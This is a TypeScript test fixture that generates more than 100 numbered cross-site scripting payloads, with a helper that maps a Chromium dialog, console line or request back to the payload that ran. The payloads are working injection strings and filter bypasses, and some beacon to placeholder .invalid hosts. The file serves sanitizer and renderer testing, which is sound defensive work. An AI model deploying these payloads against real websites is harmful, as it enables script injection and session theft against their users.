// The XSS corpus: every payload carries its own marker (XSS-n), so a dialog,
// a console line or a request that shows up in Chromium names the payload that
// ran. Variants (upper-case tags, Chinese text around, doubled) make 100+.
const TEMPLATES = [
  `<script>alert('XSS-N')</script>`,
  `<img src=x onerror=alert('XSS-N')>`,
  `<img/src/onerror=alert('XSS-N')>`,
  `<svg onload=alert('XSS-N')>`,
  `<svg/onload=alert('XSS-N')//`,
  `<svg><script>alert('XSS-N')</script></svg>`,
  `<svg><a xlink:href="javascript:alert('XSS-N')"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=alert('XSS-N') attributeName=x dur=1s>`,
  `javascript:alert('XSS-N')`,
  `javascript://%0aalert('XSS-N')`,
  `" onmouseover="alert('XSS-N')" autofocus onfocus="alert('XSS-N')" x="`,
  `' onfocus='alert("XSS-N")' autofocus='`,
  `</script><script>alert('XSS-N')</script>`,
  `"}]}</script><script>alert('XSS-N')</script>`,
  `</script><img src=x onerror=alert('XSS-N')>`,
  `</title><script>alert('XSS-N')</script>`,
  `</textarea><script>alert('XSS-N')</script>`,
  `--><script>alert('XSS-N')</script><!--`,
  `]]><script>alert('XSS-N')</script>`,
  `<iframe src="javascript:alert('XSS-N')"></iframe>`,
  `<iframe srcdoc="<script>parent.alert('XSS-N')</script>"></iframe>`,
  `<a href="javascript:alert('XSS-N')">点我</a>`,
  `<a href="data:text/html,<script>alert('XSS-N')</script>">x</a>`,
  `data:text/html,<script>alert('XSS-N')</script>`,
  `<body onload=alert('XSS-N')>`,
  `<details open ontoggle=alert('XSS-N')>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS-N')>`,
  `<noscript><p title="</noscript><img src=x onerror=alert('XSS-N')>">`,
  `<style>@import 'http://xss-N.invalid/a.css';</style>`,
  `<link rel=stylesheet href=http://xss-N.invalid/a.css>`,
  `<div style="background:url(http://xss-N.invalid/bg.png)">x</div>`,
  `<style>*{background:url("http://xss-N.invalid/c")}</style>`,
  `x{}</style><style>*{background-image:url(//xss-N.invalid/d)}`,
  `width:expression(alert('XSS-N'))`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert('XSS-N')">`,
  `<base href="http://xss-N.invalid/">`,
  `<object data="javascript:alert('XSS-N')"></object>`,
  `<embed src="javascript:alert('XSS-N')">`,
  `<form action="javascript:alert('XSS-N')"><button>x</button></form>`,
  `<input autofocus onfocus=alert('XSS-N')>`,
  `<video><source onerror=alert('XSS-N')></video>`,
  `<audio src=x onerror=alert('XSS-N')>`,
  `<marquee onstart=alert('XSS-N')>`,
  `<scr<script>ipt>alert('XSS-N')</scr</script>ipt>`,
  `<SCRIPT SRC=http://xss-N.invalid/x.js></SCRIPT>`,
  `<img src="http://xss-N.invalid/p.png">`,
  `＜script＞alert('XSS-N')＜/script＞`,
  `\\u003cscript\\u003ealert('XSS-N')\\u003c/script\\u003e`,
  `<scr\u0000ipt>alert('XSS-N')</script>`,
  `<img src=x onerror="&#97;&#108;&#101;&#114;&#116;('XSS-N')">`,
  `&lt;script&gt;alert('XSS-N')&lt;/script&gt;`,
  `%3Cscript%3Ealert('XSS-N')%3C%2Fscript%3E`,
  `\u2028\u2029<script>alert('XSS-N')</script>`,
  `\u202e<img src=x onerror=alert('XSS-N')>`,
  `<img src=x onerror=fetch('http://xss-N.invalid/')>`,
  `<script>console.log('XSS-N')</script>`,
  `\${alert('XSS-N')}`,
  `{{constructor.constructor('alert("XSS-N")')()}}`,
  `<xmp><script>alert('XSS-N')</script></xmp>`,
];

const VARIANTS: ((payload: string) => string)[] = [
  (p) => p,
  (p) =>
    `本报讯 ${p.replace(/<(\/?)([a-z]+)/g, (_, slash: string, tag: string) => `<${slash}${tag.toUpperCase()}`)} 记者`,
];

/** Payloads numbered from 1; each contains the marker `XSS-<n>` (and host xss-<n>.invalid) and nothing else of another's. */
export function xssPayloads(): { id: string; payload: string }[] {
  const payloads: { id: string; payload: string }[] = [];
  for (const variant of VARIANTS)
    for (const template of TEMPLATES) {
      const id = `XSS-${payloads.length + 1}`;
      payloads.push({ id, payload: variant(template).replace(/XSS-N/g, id).replace(/xss-N/g, id.toLowerCase()) });
    }
  return payloads;
}

/** The payload a dialog message, console line or URL names, if any. */
export function markerIn(text: string): string | null {
  const match = /xss-(\d+)/i.exec(text);
  return match ? `XSS-${match[1]}` : null;
}
